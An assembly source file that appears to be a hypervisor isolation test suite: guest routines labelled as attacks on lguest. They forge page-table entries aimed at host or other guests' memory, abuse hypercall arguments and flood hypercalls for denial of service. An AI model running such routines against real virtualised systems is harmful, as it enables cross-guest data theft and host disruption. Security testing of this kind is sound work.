/* Page tables on i386: two levels, ten bits each, pages of 4 KiB and 4 MiB. */

/* %edi: an entry. Maps it at WINDOW, and uses it. */
try_window:
        movl    %edi, VIRT(PT_USER_PA) + 0x100 * 4
        HCALL   LHCALL_SET_PTE, $PGD_PA, $WINDOW, %edi
        movl    $WINDOW, %ebx
        PEEK
        movl    $(WINDOW + 8), %ebx
        POKE
        ret

/*
 * A leaf that names a frame of somebody else's: as the machine counts frames, as the guest does, and beyond everything.
 */
ATTACK  pte_host_frame
        call    foreign_frame
        andl    $~0xfff, %edi
        orl     $0x67, %edi
        call    try_window
        END
foreign_frame:
        movl    PARAMS + AP_VARIANT, %eax
        movl    PARAMS + AP_SECRET_PA, %edi
        cmpl    $2, %eax
        jb      1f
        movl    PARAMS + AP_VICTIM_PA, %edi
        cmpl    $4, %eax
        jb      1f
        movl    PARAMS + AP_HOST_ROOT, %edi
        cmpl    $6, %eax
        jb      1f
        movl    PARAMS + AP_BYTES, %edi
        je      2f
        movl    $0xfffff000, %edi
        ret
1:      testl   $1, %eax
        jz      2f
        subl    PARAMS + AP_BASE, %edi
2:      ret

/* 4 MiB from 0, of which 3 MiB are the guest's and the next page is another guest's. */
ATTACK  huge_page_straddle
        movl    $0xe7, VIRT(PGD_PA) + (0x09000000 >> 22) * 4
        HCALL   LHCALL_SET_PGD, $PGD_PA, $(0x09000000 >> 22)
        movl    $(0x09000000 + KERNEL_PAGE_PA), %ebx
        TRY     movl (%ebx), %eax
        movl    $0x09000000, %ebx
        addl    PARAMS + AP_VICTIM_PA, %ebx
        subl    PARAMS + AP_BASE, %ebx
        PEEK
        addl    $8, %ebx
        POKE
        END

/* The victim's secret as an offset from the attacker's memory. */
#define VICTIM_OFFSET   0x308000

/* The bits of a large page's entry that must be 0, and those that are frames beyond 4 GiB to some processors. */
ATTACK  reserved_bits
        movl    PARAMS + AP_VARIANT, %ecx
        addl    $12, %ecx
        movl    $0xe7, %edi
        btsl    %ecx, %edi
        movl    %edi, VIRT(PGD_PA) + (0x09000000 >> 22) * 4
        HCALL   LHCALL_SET_PGD, $PGD_PA, $(0x09000000 >> 22)
        movl    $(0x09000000 + VICTIM_OFFSET), %ebx
        PEEK
        END

/* The directory's entries that are the host's. */
ATTACK  own_host_slot
        movl    $0xfec00000 >> 22, %esi
1:      movl    $(TABLE_PA + 0x67), VIRT(PGD_PA)(, %esi, 4)
        pushl   %esi
        HCALL   LHCALL_SET_PGD, $PGD_PA, (%esp)
        popl    %esi
        incl    %esi
        cmpl    $1024, %esi
        jb      1b
        HCALL   LHCALL_FLUSH_TLB, $1
        HCALL   LHCALL_NEW_PGTABLE, $PGD_PA
        call    read_fixed
        call    write_fixed
        TRY     ud2
        END

/* A directory that maps itself shows its own tables; are they the guest's, or the shadow's? */
ATTACK  reach_shadow
        movl    $(PGD_PA + 0x63), VIRT(PGD_PA) + 0x200 * 4
        HCALL   LHCALL_SET_PGD, $PGD_PA, $0x200
        movl    PARAMS + AP_SECRET_PA, %esi
        orl     $0x67, %esi
        movl    $(0x80000000 + (WINDOW >> 10)), %ebx
        TRY     movl %esi, (%ebx)
        movl    $WINDOW, %ebx
        PEEK
        HCALL   LHCALL_FLUSH_TLB, $1
        movl    $WINDOW, %ebx
        PEEK
        END

/* Directories without end, each with its own tables. */
ATTACK  table_exhaustion
        movl    $3, %esi
1:      pushl   %esi
        movl    $PAGES_PA, %esi
2:      pushl   %esi
        leal    KERNEL_OFFSET(%esi), %edi
        movl    $VIRT(PGD_PA), %esi
        movl    $1024, %ecx
        rep movsl
        movl    (%esp), %esi
        leal    0x67(%esi), %eax
        movl    %eax, KERNEL_OFFSET + 0x100 * 4(%esi)
        movl    %eax, KERNEL_OFFSET + 0x101 * 4(%esi)
        movl    %eax, KERNEL_OFFSET + 0x102 * 4(%esi)
        HCALL   LHCALL_NEW_PGTABLE, %esi
        movl    $0x40100000, %ebx
        TRY     movl (%ebx), %eax
        movl    $0x40501000, %ebx
        TRY     movl (%ebx), %eax
        movl    $0x40902000, %ebx
        TRY     movl $5, 0x800(%ebx)
        popl    %esi
        addl    $4096, %esi
        cmpl    $0xff000, %esi
        jb      2b
        HCALL   LHCALL_NEW_PGTABLE, $PGD_PA
        popl    %esi
        decl    %esi
        jnz     1b
        END

/* Every hypercall with wrong addresses; the variant says which. */
#define CLASSES         12
ATTACK  hypercall_arguments
        movl    PARAMS + AP_DIRECT, %eax
        movl    %eax, classes
        movl    PARAMS + AP_SECRET_VA, %eax
        movl    %eax, classes + 4
        movl    PARAMS + AP_SECRET_PA, %eax
        subl    PARAMS + AP_BASE, %eax
        movl    %eax, classes + 8
        movl    PARAMS + AP_BYTES, %eax
        movl    %eax, classes + 12
        decl    %eax
        movl    %eax, classes + 16
        movl    PARAMS + AP_STATE, %eax
        movl    %eax, classes + 20
        movl    PARAMS + AP_VARIANT, %eax
        xorl    %edx, %edx
        movl    $CLASSES, %ecx
        divl    %ecx
        movzbl  numbers(%eax), %eax
        movl    classes(, %edx, 4), %ebx
        leal    5(%edx), %ecx
        cmpl    $CLASSES, %ecx
        jb      1f
        subl    $CLASSES, %ecx
1:      movl    classes(, %ecx, 4), %ecx
        movl    %ebx, %edx
        movl    %ebx, %esi
        movl    %eax, lguest_data + LGUEST_DATA_HCALLS
        movl    %ebx, lguest_data + LGUEST_DATA_HCALLS + HCALL_ARG1
        movl    %ecx, lguest_data + LGUEST_DATA_HCALLS + HCALL_ARG2
        movl    %edx, lguest_data + LGUEST_DATA_HCALLS + HCALL_ARG3
        movl    %esp, %ebp
        movl    $9f, %edi
        call    hypercall
        DONE
        movb    $0, lguest_data + LGUEST_DATA_HCALL_STATUS
        TRY     call flush_async
        TRY     ud2
        GO_USER 2f
        USER_CODE
2:      movl    $-1, %eax
        int     $0x80
        EXIT
        KERNEL_CODE
flush_async:
        HCALL   LHCALL_FLUSH_ASYNC
        ret
        .balign 4
classes:
        .skip   6 * 4
        .long   -1, 0x80000000, 0xffc00000, 0x4001, 1, 0xfffff001
numbers:
        .byte   LHCALL_FLUSH_ASYNC, LHCALL_LGUEST_INIT, LHCALL_SHUTDOWN, LHCALL_NEW_PGTABLE, LHCALL_FLUSH_TLB
        .byte   LHCALL_LOAD_IDT_ENTRY, LHCALL_SET_STACK, LHCALL_TS, LHCALL_SET_CLOCKEVENT, LHCALL_HALT, LHCALL_SET_PMD
        .byte   LHCALL_SET_PTE, LHCALL_SET_PGD, LHCALL_LOAD_TLS, LHCALL_LOAD_GDT_ENTRY, LHCALL_SEND_INTERRUPTS
        .byte   LHCALL_IRET, LHCALL_IRQ_FLAGS, LHCALL_IRQ_DISABLE, LHCALL_IRQ_ENABLE, 3, 63, 255

/* For ever: calls, a ring that is always full, sleep without end, and no sleep at all. */
ATTACK  hypercall_storm
1:      HCALL   LHCALL_FLUSH_ASYNC
        HCALL   LHCALL_FLUSH_TLB, $1
        HCALL   LHCALL_NEW_PGTABLE, $PGD_PA
        jmp     1b
ATTACK  ring_storm
1:      xorl    %edi, %edi
2:      imull   $HCALL_SIZE, %edi, %ecx
        movl    $LHCALL_TS, lguest_data + LGUEST_DATA_HCALLS(%ecx)
        movl    $1, lguest_data + LGUEST_DATA_HCALLS + HCALL_ARG1(%ecx)
        movb    $0, lguest_data + LGUEST_DATA_HCALL_STATUS(%edi)
        incl    %edi
        cmpl    $64, %edi
        jb      2b
        HCALL   LHCALL_FLUSH_ASYNC
        jmp     1b
ATTACK  halt_deaf
        call    irq_off
        HCALL   LHCALL_HALT
        END
ATTACK  spin_deaf
        call    irq_off
1:      jmp     1b
